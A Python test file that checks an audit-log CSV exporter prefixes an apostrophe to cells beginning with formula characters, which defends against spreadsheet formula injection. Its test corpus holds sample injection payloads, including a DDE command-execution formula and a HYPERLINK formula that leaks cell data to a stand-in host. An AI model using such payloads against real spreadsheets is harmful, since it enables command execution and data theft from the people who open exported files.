"""No cell of an export is a formula to a spreadsheet, whatever was written into the audit log."""

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from strata_core.audit.exporting import COLUMNS, csv_page, harmless
from strata_core.audit.queries import AuditEntry

ENTRY = AuditEntry(
    UUID(int=1),
    datetime(2026, 1, 2, tzinfo=UTC),
    "user",
    None,
    "ada",
    "host.update",
    "host",
    "h1",
    None,
    None,
    None,
    None,
)
CORPUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?x="&A1)',
    "\uff1d1+1",
    "-2+3+cmd|' /C calc'!A0",
    '"=1+1',
    "a\r\n=1+1",
    'a","=1+1',
]
dangerous = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
cells = st.one_of(
    st.sampled_from(CORPUS),
    st.text(),
    st.builds(
        lambda blank, start, rest: blank + start + rest,
        st.sampled_from(["", " ", "  ", "\u00a0", "\ufeff", "\u200b"]),
        dangerous,
        st.text(),
    ),
)


@pytest.mark.parametrize("cell", [cell for cell in CORPUS if cell[0] not in 'a"'])
def test_known_attacks_get_an_apostrophe(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "plain", "host=web", "a-b", "1", '{"=a": 1}', " ", "'=1"])
def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


@given(label=cells, action=cells, target=cells, request_id=cells)
def test_every_cell_reads_back_as_one_harmless_cell(label: str, action: str, target: str, request_id: str) -> None:
    entry = replace(ENTRY, actor_label=label, action=action, target_id=target, request_id=request_id)
    text = csv_page([entry]).decode("utf-8")
    (row,) = csv.reader(io.StringIO(text, newline=""))
    assert len(row) == len(COLUMNS)
    for name, written in (
        ("actor_label", label),
        ("action", action),
        ("target_id", target),
        ("request_id", request_id),
    ):
        cell = row[COLUMNS.index(name)]
        assert cell in {written, f"'{written}"}
        assert not cell.lstrip(" \u00a0\u200b\ufeff").startswith(
            ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
        )


@given(st.dictionaries(st.text(), st.one_of(st.text(), st.integers(), st.none())))
def test_documents_are_never_formulas(document: dict[str, object]) -> None:
    text = csv_page([replace(ENTRY, after=document)]).decode("utf-8")
    (row,) = csv.reader(io.StringIO(text, newline=""))
    assert row[COLUMNS.index("after")].startswith("{")
